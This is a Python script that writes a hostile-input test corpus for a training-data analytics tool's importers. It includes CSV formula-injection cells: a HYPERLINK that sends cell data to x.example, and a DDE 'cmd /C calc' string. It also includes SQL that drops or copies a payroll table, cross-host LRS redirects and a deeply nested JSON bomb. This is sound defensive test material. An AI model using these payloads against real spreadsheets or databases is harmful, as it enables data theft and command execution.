# ruff: noqa: E501  (byte strings and markdown rows are kept whole, one per line)
"""Write the hostile-input corpus (tests/hostile/files/) from the byte strings below.

The files are committed; this script says exactly which bytes each holds, including those a text editor
or git would change (BOMs, UTF-16, CR-only line ends, NUL bytes, stray Latin-1 bytes). Run it from the
repository root after changing a case: ``python tests/hostile/make_corpus.py``.
"""

from __future__ import annotations

import json
from pathlib import Path

FILES = Path(__file__).resolve().parent / "files"
HEAD = "User ID,Training Title,Transcript Status,Transcript Completed Date"
SEC = "https://lms.example.com/course/safety"
ADL = "http://adlnet.gov/expapi/verbs/"


def csv(*rows: str, head: str = HEAD, eol: str = "\n") -> bytes:
    return (eol.join([head, *rows]) + eol).encode("utf-8")


def stmt(i: int, *, actor: dict | None = None, verb: str = "completed", sid: str | None = None,
         target: str | None = None, name: str = "Warehouse Safety") -> dict:
    s: dict = {
        "id": sid or f"6d0f2c5e-0000-4000-8000-{i:012d}",
        "actor": actor or {"account": {"homePage": "https://lms.example.com", "name": f"lms{i}"}},
        "verb": {"id": ADL + verb},
        "object": {"id": SEC, "objectType": "Activity", "definition": {"name": {"en-US": name}}},
        "timestamp": f"2024-03-0{1 + i % 9}T09:00:00Z",
        "stored": f"2024-03-0{1 + i % 9}T09:00:0{i % 10}Z",
    }
    if verb == "completed":
        s["result"] = {"completion": True}
    if verb == "voided":
        s["object"] = {"objectType": "StatementRef", "id": target}
    return s


def js(value: object) -> bytes:
    return json.dumps(value, indent=1).encode("utf-8")


def deep(n: int) -> str:
    return '{"a":' * n + "1" + "}" * n


KPI = "employee_id,month,revenue"
OBS = "employee_id,program,behavior,rating,observed_at"
ASM = "User ID,Training Title,Kind,Score,Taken At"
COST = "Program,Category,Amount"

CASES: dict[str, bytes] = {
    # encodings and line ends
    "bom_utf8.csv": b"\xef\xbb\xbf" + csv("E1,Safety,Completed,2024-03-01", "E2,Safety,Completed,2024-03-02"),
    "utf16le_bom.csv": "\ufeff".encode("utf-16-le")
    + (HEAD + "\r\nE1,Formación,Completed,2024-03-01\r\nE2,Sécurité,Completed,2024-03-02\r\n").encode("utf-16-le"),
    "utf16be_bom.csv": "\ufeff".encode("utf-16-be")
    + (HEAD + "\nE1,Formación,Completed,2024-03-01\n").encode("utf-16-be"),
    "crlf.csv": csv("E1,Safety,Completed,2024-03-01", "E2,Safety,Completed,2024-03-02", eol="\r\n"),
    "cr_only.csv": csv("E1,Safety,Completed,2024-03-01", "E2,Safety,Completed,2024-03-02", eol="\r"),
    "mixed_line_ends.csv": (HEAD + "\r\nE1,Safety,Completed,2024-03-01\nE2,Safety,Completed,2024-03-02\r\n").encode(),
    "empty.csv": b"",
    "header_only.csv": csv(),
    "blank_lines_only.csv": b"\n\n   \n\r\n",
    "bom_only.csv": b"\xef\xbb\xbf",
    "ragged_short.csv": csv("E1,Safety,Completed,2024-03-01", "E2,Safety", "E3,Safety,Completed,2024-03-03"),
    "ragged_long.csv": csv("E1,Safety,Completed,2024-03-01", "E2,Safety,Completed,2024-03-02,extra,more",
                           "E3,Safety,Completed,2024-03-03"),
    "quote_unclosed.csv": csv("E1,Safety,Completed,2024-03-01", 'E2,"Safety,Completed,2024-03-02',
                              "E3,Safety,Completed,2024-03-03"),
    "quote_stray_inside.csv": csv("E1,Safety,Completed,2024-03-01", 'E2,Safe"ty,Completed,2024-03-02'),
    "nul_byte.csv": csv("E1,Safety,Completed,2024-03-01", "E2,Saf\x00ety,Completed,2024-03-02"),
    "long_field.csv": csv("E1," + "S" * 200_000 + ",Completed,2024-03-01", "E2,Safety,Completed,2024-03-02"),
    "stray_latin1_byte.csv": csv("E1,José,Completed,2024-03-01", "E2,Safety,Completed,2024-03-02")
    + b"E3,Caf\xe9,Completed,2024-03-03\n",
    "cp1252_whole.csv": (HEAD + "\nE1,Formación en ventas,Completed,2024-03-01\nE2,Sécurité – 1,Completed,2024-03-02\n"
                         ).encode("cp1252"),
    "duplicate_headers.csv": csv("E1,Safety,post,80,75,2024-03-01", head="User ID,Training Title,Kind,Score,Score,Taken At"),
    "headers_padded_case.csv": csv("E1,Safety,Completed,2024-03-01",
                                   head="  user id ,TRAINING TITLE,transcript status , Transcript Completed Date"),
    "title_block.csv": ("Transcript report\nRun by: admin\nFilters: none\n\n" + HEAD
                        + "\nE1,Safety,Completed,2024-03-01\n").encode(),
    "semicolon_decimal_comma.csv": csv("E1;Safety;Completed;2024-03-01;1,5",
                                       head="User ID;Training Title;Transcript Status;Transcript Completed Date;Hours"),
    "tab_delimited.tsv": csv("E1\tSafety, Level 1\tCompleted\t2024-03-01",
                             head=HEAD.replace(",", "\t")),
    "pipe_delimited.csv": csv("E1|Safety|Completed|2024-03-01", "E2|Safety|Completed|2024-03-02",
                              head=HEAD.replace(",", "|")),
    "quoted_multiline.csv": csv('E1,"Safety,\r\nLevel 1",Completed,2024-03-01', "E2,Safety,Completed,2024-03-02"),
    # spreadsheet leftovers
    "excel_error_values.csv": csv("E1,Safety,post,#N/A,2024-03-01", "E2,Safety,post,#DIV/0!,2024-03-01",
                                  "E3,Safety,post,#VALUE!,2024-03-01", "E4,Safety,post,81,2024-03-01", head=ASM),
    "excel_serial_dates.csv": csv("E1,Safety,Completed,45383", "E2,Safety,Completed,45383.75"),
    "excel_1900_leap_day.csv": csv("E1,Safety,Completed,60", "E2,Safety,Completed,45383"),
    "formula_cells.csv": csv('=HYPERLINK("http://x.example/?"&A1;"click"),Safety,Done?,2024-03-01',
                             "+cmd|' /C calc'!A0,Safety,Finished!,2024-03-01", "@SUM(A1:A9),Safety,Completed,bad",
                             "E4,Safety,Completed,2024-03-01"),
    # dates
    "far_future_date.csv": csv("E1,Safety,Completed,2999-01-01", "E2,Safety,Completed,2024-03-02"),
    "negative_and_ancient_dates.csv": csv("E1,Safety,Completed,-0001-01-01", "E2,Safety,Completed,1066-10-14",
                                          "E3,Safety,Completed,2024-03-03"),
    "tz_offsets.csv": csv("E1,Safety,Completed,2024-03-01T09:00:00+01:00", "E2,Safety,Completed,2024-03-01T08:00:00Z",
                          "E3,Safety,Completed,2024-03-01 03:00:00-05:00"),
    "tz_abbreviations.csv": csv("E1,Safety,Completed,2024-03-01 09:00 EST", "E2,Safety,Completed,2024-03-01 09:00 CET",
                                "E3,Safety,Completed,2024-03-01 09:00"),
    "dst_gap.csv": csv("E1,Safety,Completed,2024-03-31 02:30", "E2,Safety,Completed,2024-03-31 03:30"),
    "dst_fall_back.csv": csv("E1,Safety,Completed,2024-10-27 02:30", "E2,Safety,Completed,2024-10-27 03:30"),
    "epoch_ms.csv": csv("E1,Safety,Completed,1711843200000", "E2,Safety,Completed,1711846800000"),
    "odata_dates.csv": csv("E1,Safety,Completed,/Date(1711843200000)/", "E2,Safety,Completed,/Date(1711843200000+0000)/"),
    "ambiguous_day_month.csv": csv("E1,Safety,Completed,03/04/2024", "E2,Safety,Completed,05/06/2024"),
    "impossible_dates.csv": csv("E1,Safety,Completed,2024-02-30", "E2,Safety,Completed,yesterday",
                                "E3,Safety,Completed,2024-03-03"),
    "moodle_zero_not_set.csv": csv("7,101,1,1711843200", "8,101,0,0", "9,101,1,0",
                                   head="userid,course,completionstate,timecompleted"),
    # ids
    "ids_padded_spaces.csv": csv(" E1 ,Safety,Completed,2024-03-01", "E2\t,Safety,Completed,2024-03-02"),
    "ids_leading_zeros.csv": csv("00123,Safety,Completed,2024-03-01", "0042,Safety,Completed,2024-03-02"),
    "ids_scientific.csv": csv("1.23E+05,Safety,Completed,2024-03-01", "123457,Safety,Completed,2024-03-02"),
    "ids_float_suffix.csv": csv("1234.0,Safety,Completed,2024-03-01", "1235,Safety,Completed,2024-03-02"),
    "ids_mixed_types.jsonl": b'{"employee_id": 123, "program": "Safety", "status": "Completed", "completed_at": "2024-03-01"}\n'
    b'{"employee_id": "E7", "program": "Safety", "status": "Completed", "completed_at": "2024-03-01"}\n'
    b'{"employee_id": 124.0, "program": "Safety", "status": "Completed", "completed_at": "2024-03-01"}\n',
    "ids_blank.csv": csv("E1,Safety,Completed,2024-03-01", "   ,Safety,Completed,2024-03-02", ",Safety,Completed,2024-03-03"),
    "ids_excel_lost_zeros.csv": csv("123,Safety,Completed,2024-02-01", "456,Safety,Completed,2024-02-01"),
    "ids_case_differs.csv": csv("e01,Safety,Completed,2024-02-01", "E02,Safety,Completed,2024-02-01"),
    # rows and statuses
    "duplicate_rows.csv": csv("E1,Safety,Completed,2024-03-01", "E2,Safety,Completed,2024-03-02",
                              "E1,Safety,Completed,2024-03-01"),
    "unknown_status.csv": csv("E1,Safety,Completed,2024-03-01", "E2,Safety,Sort Of Done,2024-03-02"),
    "past_due_suffix.csv": csv("E1,Safety,Completed / Past Due,2024-03-01", "E2,Safety,In Progress/Past Due,"),
    "cornerstone_spanish.csv": csv("E1,Seguridad,Terminado,2024-03-01", "E2,Seguridad,En Progreso,",
                                   head="Identificación de usuario,Título de la capacitación,Estado del expediente,"
                                   "Fecha de finalización de expediente"),
    "canvas_points_possible.csv": csv("    Points Possible,,,,,,100", "Ann Lee,101,E1,Safety,completed,2024-03-01,88.5",
                                      "Bo Chan,102,E2,Safety,active,,40",
                                      head="Student,ID,SIS User ID,Course,Enrollment State,completed_at,Final Score"),
    "cornerstone_equivalent.csv": csv("E1,Safety,Completed (Equivalent),2024-03-01", "E2,Safety,Exempt,",
                                      "E3,Safety,Completed,2024-03-02"),
    "docebo_enrollments.csv": csv("u1,Safety,Completed,2015-06-30 11:27:34", "u2,Safety,Enrollment to confirm,",
                                  head="username,course_name,status,date_complete"),
    "moodle_report_dayfirst.csv": b"\xef\xbb\xbf" + csv("E1,Safety,Completed,\"05/03/24, 14:30\"",
                                                       "E2,Safety,In Progress,"),
    "successfactors_epoch.json": js({"d": {"results": [
        {"StudentId": "E1", "ComponentID": "SAFE-1", "CompletionDate": "/Date(1711843200000)/",
         "CompletionStatusID": "COMPLETE", "CompletionStatusDesc": "Completed", "Grade": "Pass"},
        {"StudentId": "E2", "ComponentID": "SAFE-1", "CompletionDate": "/Date(1711846800000)/",
         "CompletionStatusID": "COMPLETE", "CompletionStatusDesc": "Completed", "Grade": "85"}]}}),
    "successfactors_grades.csv": csv("E1,SAFE-1,COMPLETE,Y,2024-03-01,Pass", "E2,SAFE-1,COMPLETE,Y,2024-03-01,Fail",
                                     "E3,SAFE-1,COMPLETE,Y,2024-03-01,B+", "E4,SAFE-1,COMPLETE,Y,2024-03-01,92",
                                     "E5,SAFE-1,COMPLETE,Y,2024-03-01,Competent",
                                     head="StudentID,ComponentID,CompletionStatusID,ProvidesCredit,CompletionDate,Grade"),
    "completed_without_date.csv": csv("E1,Safety,Completed,", "E2,Safety,In Progress,"),
    # numbers (KPIs)
    "thousands_us.csv": csv("E1,2024-01,\"1,234.56\"", "E1,2024-02,\"12,500.50\"", head=KPI),
    "thousands_de.csv": csv("E1;2024-01;1.234,56", "E1;2024-02;12.500,50", head=KPI.replace(",", ";")),
    "thousands_ch.csv": csv("E1,2024-01,1'234.56", "E1,2024-02,12'500.50", head=KPI),
    "thousands_fr_space.csv": csv("E1;2024-01;1\u202f234,56", "E1;2024-02;12\u00a0500,50", head=KPI.replace(",", ";")),
    "thousands_in.csv": csv('E1,2024-01,"1,23,456.78"', 'E1,2024-02,"12,34,567.00"', head=KPI),
    "mixed_decimal_marks.csv": csv('E1,2024-01,"1,234.56"', 'E1,2024-02,"2,500.00"', 'E1,2024-03,"1,5"',
                                   'E1,2024-04,"3,250.25"', head=KPI),
    "percent_kpi.csv": csv("E1,2024-01,85%", "E1,2024-02,90", head=KPI),
    "non_finite_kpi.csv": csv("E1,2024-01,100", "E1,2024-02,1e309", "E1,2024-03,110", "E1,2024-04,inf",
                              "E1,2024-05,120", "E1,2024-06,-Infinity", "E1,2024-07,130", "E1,2024-08,NaN",
                              "E1,2024-09,140", head=KPI),
    "kpi_mixed_currency.csv": csv("E1,2024-01,$1200", "E1,2024-02,€1300", "E1,2024-03,$1250", head=KPI),
    "kpi_currency_text.csv": csv("E1,2024-01,$1200", "E1,2024-02,$1300", head=KPI),
    "negative_scores.csv": csv("E1,Safety,post,-5,2024-03-01", "E2,Safety,post,80,2024-03-01", head=ASM),
    "percent_scores.csv": csv("E1,Safety,post,85%,2024-03-01", "E2,Safety,post,80,2024-03-01", head=ASM),
    # Kirkpatrick levels
    "behavior_rating_55.csv": csv("E1,Safety,coaching,2,2024-02-27", "E1,Safety,coaching,55,2024-03-31",
                                  "E2,Safety,coaching,3,2024-02-27", "E2,Safety,coaching,4,2024-03-31", head=OBS),
    "behavior_ids_zeros.csv": csv(" 00123,Safety,coaching,2,2024-02-27", " 00123,Safety,coaching,4,2024-03-31",
                                  "E07,Safety,coaching,3,2024-02-27", "E07,Safety,coaching,5,2024-03-31",
                                  "999,Safety,coaching,3,2024-02-27", "999,Safety,coaching,4,2024-03-31", head=OBS),
    # the DuckDB scan route
    "scan_completions_rules.csv": csv("1.23E+05,Safety,Completed,2024-03-01", "E2,Safety,Completed,2999-01-01",
                                      "E3,Safety,Completed,2024-03-10 02:30", "E4,Safety,Completed,31/03/2024"),
    "scan_kpis_rules.csv": csv("E1,2024-01,100", 'E1,2024-02,"1,234.50"', "E1,2024-03,inf", "E1,2024-04,120",
                               "E1,2024-04,120", head=KPI),
    # costs
    "costs_unknown_items.csv": csv("Safety,Trainer fees,\"$100,000\"", "Safety,Venue hire,\"$50,000\"",
                                   "Safety,Staff time,\"$225,000\"", head=COST),
    "costs_mapped_items.csv": csv("Safety,Trainer fees,\"$100,000\"", "Safety,Venue hire,\"$50,000\"",
                                  "Safety,Staff time,\"$225,000\"", head=COST),
    "costs_negative.csv": csv("Safety,delivery,\"-5,000\"", "Safety,design,\"10,000\"", head=COST),
    "costs_huge.csv": csv("Safety,delivery,1e308", "Safety,design,1e308", head=COST),
    "costs_mixed_currency.csv": csv("Safety,delivery,$100", "Safety,design,€200", head=COST),
    "costs_thousands_symbols.csv": csv("Safety,delivery,\"$125,000\"", "Safety,design,\"$1,500.50\"", head=COST),
    # JSON
    "json_scalar.json": b'"just a string"',
    "json_array_of_scalars.json": b"[1, 2, 3]",
    "json_truncated.json": b'[{"employee_id": "E1", "program": "Safety", "status": "Comp',
    "jsonl_not_object_line.jsonl": b'{"employee_id": "E1", "program": "Safety", "status": "Completed", "completed_at": "2024-03-01"}\n'
    b'[1, 2]\n"text"\n',
    "jsonl_deep_line.jsonl": b'{"employee_id": "E1", "program": "Safety", "status": "Completed", "completed_at": "2024-03-01"}\n'
    + deep(100_000).encode() + b"\n",
    "jsonl_stray_byte.jsonl": b'{"employee_id": "E1", "program": "Jos\xc3\xa9", "status": "Completed", "completed_at": "2024-03-01"}\n'
    b'{"employee_id": "E2", "program": "Caf\xe9", "status": "Completed", "completed_at": "2024-03-01"}\n',
    "json_repeated_key.json": b'[{"employee_id": "E1", "program": "Safety", "status": "Completed", "completed_at": "2024-03-01", "score": 85, "score": 90},\n'
    b' {"employee_id": "E2", "program": "Safety", "status": "Completed", "status": "Completed", "completed_at": "2024-03-02"},\n'
    b' {"employee_id": "E3", "program": "Safety", "status": "Completed", "completed_at": "2024-03-03"}]\n',
    "jsonl_repeated_key.jsonl": b'{"employee_id": "E1", "program": "Safety", "status": "Completed", "completed_at": "2024-03-01", "program": "Fire drill"}\n'
    b'{"employee_id": "E2", "program": "Safety", "status": "Completed", "completed_at": "2024-03-02"}\n',
    "json_repeated_records_key.json": b'{"value": [{"employee_id": "E1", "program": "Safety", "status": "Completed", "completed_at": "2024-03-01"}], "value": []}\n',
    # xAPI statement files
    "xapi_missing_fields.json": js([
        stmt(1), {k: v for k, v in stmt(2).items() if k != "actor"}, {k: v for k, v in stmt(3).items() if k != "verb"},
        {k: v for k, v in stmt(4).items() if k != "object"}]),
    "xapi_not_objects.json": js([stmt(1), 42, "statement", None]),
    "xapi_conflicting_ids.json": js([stmt(1), {**stmt(2), "id": stmt(1)["id"]}, stmt(3)]),
    "xapi_identical_ids.json": js([stmt(1), stmt(1), stmt(3)]),
    "xapi_group_actor.json": js([stmt(1), {**stmt(2), "actor": {
        "objectType": "Group", "name": "Team A", "account": {"homePage": "https://lms.example.com", "name": "teamA"},
        "member": [{"mbox": "mailto:a@example.com"}]}}]),
    "xapi_void_upper_case.json": js([stmt(1), stmt(2), stmt(9, verb="voided", target=stmt(1)["id"].upper())]),
    "xapi_void_chain.json": js([stmt(1), stmt(8, verb="voided", target=stmt(1)["id"]),
                                stmt(9, verb="voided", target=stmt(8, verb="voided", target="x")["id"])]),
    "xapi_mbox_sha1sum.json": js([stmt(1, actor={"mbox_sha1sum": "ebd31e95054c018b10727ccffd2ef2ec3a016ee9"})]),
    "xapi_void_in_later_pull.json": js([stmt(9, verb="voided", target=stmt(1)["id"]), stmt(3)]),
    "xapi_stray_byte.jsonl": json.dumps(stmt(1, name="José"), ensure_ascii=False).encode() + b"\n"
    + json.dumps(stmt(2, name="Caf#"), ensure_ascii=False).encode().replace(b"Caf#", b"Caf\xe9") + b"\n",
    "xapi_repeated_key.json": ("[" + json.dumps(stmt(1)).replace('"verb": {', '"verb": {"id": "' + ADL + 'failed"}, "verb": {', 1)
                               + ", " + json.dumps(stmt(2)) + "]\n").encode(),
    # LRS scripts: the pages a fake LRS serves, in order ({other} is a second server on another port)
    "lrs_more_other_host.json": js({"pages": [{"body": {"statements": [], "more": "http://{other}/xapi/statements?p=2"}}]}),
    "lrs_more_protocol_relative.json": js({"pages": [{"body": {"statements": [], "more": "//{other}/xapi/statements?p=2"}}]}),
    "lrs_redirect_other_origin.json": js({"pages": [{"status": 302, "headers": {"Location": "http://{other}/xapi/statements"}}]}),
    "lrs_apikey_in_query.json": js({"endpoint_query": "apikey=s3cr3t-key", "pages": [{"body": {"statements": ["{stmt}"]}}]}),
    "lrs_html_page.json": js({"pages": [{"content_type": "text/html", "text": "<html><body>Login</body></html>"}]}),
    "lrs_401.json": js({"pages": [{"status": 401, "text": "Unauthorized"}]}),
    "lrs_429_then_ok.json": js({"pages": [{"status": 429, "headers": {"Retry-After": "0"}},
                                          {"body": {"statements": ["{stmt}"]}}]}),
    "lrs_503_always.json": js({"pages": [{"status": 503}] * 3}),
    "lrs_endless_cursors.json": js({"endless": True, "pages": []}),
    "lrs_drip.json": js({"drip": 0.2, "pages": [{"body": {"statements": ["{stmt}"]}}]}),
    "lrs_repeated_key.json": js({"pages": [{"text": '{"statements": [' + json.dumps(stmt(1)).replace(
        '"result": {', '"result": {"success": false, "success": true, ', 1) + ", " + json.dumps(stmt(2)) + '], "more": ""}'}]}),
    "lrs_consistent_through.json": js({"pages": [{"headers": {"X-Experience-API-Consistent-Through":
                                                              "2024-03-01T00:00:00Z"},
                                                  "body": {"statements": ["{stmt}"]}}]}),
    # SQL
    "sql_comment_in_literal.sql": b"select '--' as a; drop table payroll; -- '\n",
    "sql_two_selects.sql": b"select 1; select 2\n",
    "sql_copy.sql": b"COPY payroll TO 'payroll_copy.csv'\n",
    "sql_attach.sql": b"ATTACH 'other.duckdb' AS other\n",
    "sql_set.sql": b"SET threads = 1\n",
    "sql_select.sql": b"select employee_id as \"User ID\", program, status, completed_at from completions\n",
    # the command line and the deck
    "notebook_for_run.ipynb": js({"cells": [{"cell_type": "code", "metadata": {"tags": ["parameters"]},
                                            "source": ["data_dir = 'data'\n"], "outputs": [],
                                            "execution_count": None}],
                                  "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3",
                                                              "language": "python"}},
                                  "nbformat": 4, "nbformat_minor": 5}),
    "deck_title_control_chars.txt": b"Q3\x1b impact\x00 of Safety\x07\n",
}

SUPPORT: dict[str, bytes] = {
    "completions_ids_as_numbers.csv": csv("123,Safety,Completed,2024-03-01", "e07,Safety,Completed,2024-03-01"),
    "xapi_first_pull.json": js([stmt(1), stmt(2)]),
    "kpis_zero_padded_ids.csv": csv("00123,2024-01,100", "00123,2024-02,110", "00123,2024-03,120",
                                    "00456,2024-01,90", "00456,2024-02,95", "00456,2024-03,99", head=KPI),
    "kpis_case_ids.csv": csv("E01,2024-01,100", "E01,2024-02,110", "E01,2024-03,120",
                             "E02,2024-01,90", "E02,2024-02,95", "E02,2024-03,99", head=KPI),
}


def main() -> None:
    FILES.mkdir(exist_ok=True)
    for name, data in CASES.items():
        (FILES / name).write_bytes(data)
    (FILES.parent / "support").mkdir(exist_ok=True)
    for name, data in SUPPORT.items():
        (FILES.parent / "support" / name).write_bytes(data)
    _xlsx()


def _xlsx() -> None:
    """Workbooks: a formula without a cached value (openpyxl writes none), error cells, serial dates."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.append(["User ID", "Training Title", "Kind", "Score", "Taken At"])
    ws.append(["E1", "Safety", "post", 80, "2024-03-01"])
    ws.append(["E2", "Safety", "post", "=B9*2", "2024-03-01"])
    wb.save(FILES / "xlsx_uncached_formula.xlsx")
    wb = Workbook()
    ws = wb.active
    ws.append(["User ID", "Training Title", "Transcript Status", "Transcript Completed Date"])
    ws.append([123, "Safety", "Completed", 45383])
    ws.append([456, "Safety", "Completed", 45383.75])
    wb.save(FILES / "xlsx_numeric_ids_serials.xlsx")


if __name__ == "__main__":
    main()
